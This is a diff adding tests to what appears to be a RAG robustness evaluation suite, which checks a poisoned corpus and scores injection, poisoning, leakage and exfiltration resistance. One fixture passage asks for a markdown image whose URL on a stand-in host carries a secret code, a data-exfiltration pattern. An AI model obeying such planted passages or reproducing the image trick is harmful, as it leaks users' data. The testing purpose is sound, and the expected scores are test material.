@@ -19,7 +19,14 @@ from ragproof_core.adapters.demo import (
     split_sentences,
 )
 from ragproof_core.data.dataset import load_dataset
-from ragproof_core.model import Answer, Chunk, RetrieveStep, ToolMatch, ToolStep
+from ragproof_core.generate.corpus_attacks import generate_attacks_command
+from ragproof_core.metrics.robustness import (
+    exfiltration_resistance,
+    injection_resistance,
+    leakage_resistance,
+    poisoning_resistance,
+)
+from ragproof_core.model import Answer, CaseOutput, Chunk, RetrieveStep, ToolMatch, ToolStep
 
 ROOT = Path(__file__).resolve().parents[3]
 TINY = ROOT / "tests/fixtures/demo/tiny_corpus.jsonl"
@@ -151,11 +158,26 @@ def test_shipped_corpus_size_ids_and_poisoned_passages():
         "synthetic-pass-1",
         "synthetic-global-1",
         "synthetic-lambda-1",
+        "synthetic-del-1",
     ]
     assert all(p["metadata"]["synthetic"] is True for p in poisoned)
-    assert all("ZQX-POISON-" in p["text"] for p in poisoned)
+    assert all("ZQX-POISON-" in p["text"] for p in poisoned[:3])
+    # The fourth asks for a markdown image whose URL carries a sentinel-shaped code.
+    assert (
+        "![docs](https://badges.example.invalid/del.png?ref=ZQX-DELBADGE2Q7MXRWT)"
+        in (poisoned[3]["text"])
+    )
     # Only the labelled synthetic passages carry a marker.
-    assert sum("ZQX-" in p["text"] for p in passages) == 3
+    assert sum("ZQX-" in p["text"] for p in passages) == 4
+    # CONTRACT section 23: three internal notes, restricted, on their own documents.
+    restricted = [p for p in passages if p["metadata"].get("restricted")]
+    assert [p["id"] for p in restricted] == [
+        "internal-advisory-1",
+        "internal-roadmap-1",
+        "internal-signing-1",
+    ]
+    assert all(p["metadata"]["restricted"] is True for p in restricted)
+    assert all(p["metadata"]["document_id"].startswith("internal-") for p in restricted)
 
 
 @pytest.mark.skipif(
@@ -304,3 +326,52 @@ def test_the_shipped_agent_cases_carry_hops_and_tools():
             {"id": hop[0]} for hop in case.expected_hops
         ]
     assert {c.tool_match for c in cases} == set(ToolMatch)
+
+
+# --- the demo on an attacked copy of its corpus (CONTRACT section 23) --------
+
+ATTACKED_CORPUS = ROOT / "data/corpus/attacked.jsonl"
+ATTACK_CASES = ROOT / "data/demo/attack_cases.jsonl"
+# data/demo/README.md gives the command: generate attacks, seed 1, 12 chunks.
+ATTACK_SEED, ATTACK_COUNT = 1, 12
+
+
+def test_the_attacked_corpus_and_its_cases_are_what_generate_attacks_writes(tmp_path):
+    out_corpus, out = tmp_path / "attacked.jsonl", tmp_path / "attacks.jsonl"
+    generate_attacks_command(SHIPPED_CORPUS, out_corpus, out, ATTACK_COUNT, ATTACK_SEED)
+    assert out_corpus.read_bytes() == ATTACKED_CORPUS.read_bytes()
+    generated = out.read_text(encoding="utf-8")
+    shipped = ATTACK_CASES.read_text(encoding="utf-8")
+    assert shipped.startswith(generated)
+    # Then the hand-written probes: restricted passages asked for (one by a user
+    # allowed their document) and the markdown image of synthetic-del-1.
+    written = [json.loads(line) for line in shipped[len(generated) :].splitlines()]
+    assert [case["metadata"]["attack"] for case in written] == ["leakage"] * 6 + ["exfiltration"]
+    restricted = {p["id"] for p in read_jsonl(SHIPPED_CORPUS) if p["metadata"].get("restricted")}
+    assert {case["metadata"]["restricted"] for case in written[:6]} == restricted
+    assert [c["id"] for c in written if c.get("allowed_restricted_ids")] == ["allowed-roadmap"]
+    assert written[6]["adversarial_payload"] == "ZQX-DELBADGE2Q7MXRWT"
+
+
+def test_the_demo_on_its_attacked_corpus_is_fooled_sometimes():
+    """Each attack metric of the README's fourth run is neither 0 nor 1 (exfiltration:
+    one image copied), computed here from the pipeline and the metric functions."""
+    demo = DemoRAG(corpus=ATTACKED_CORPUS)
+    scores: dict[str, list[float]] = {}
+    for case in load_dataset(ATTACK_CASES):
+        output = CaseOutput(case.id, demo.answer(case.question))
+        for metric in (
+            injection_resistance,
+            poisoning_resistance,
+            leakage_resistance,
+            exfiltration_resistance,
+        ):
+            result = metric(case, output)
+            if result.value is not None:
+                scores.setdefault(result.metric, []).append(result.value)
+    assert {name: (len(values), sum(values)) for name, values in scores.items()} == {
+        "robustness.injection_resistance": (7, 4.0),
+        "robustness.poisoning_resistance": (6, 4.0),
+        "robustness.leakage_resistance": (6, 2.0),
+        "robustness.exfiltration_resistance": (19, 18.0),
+    }
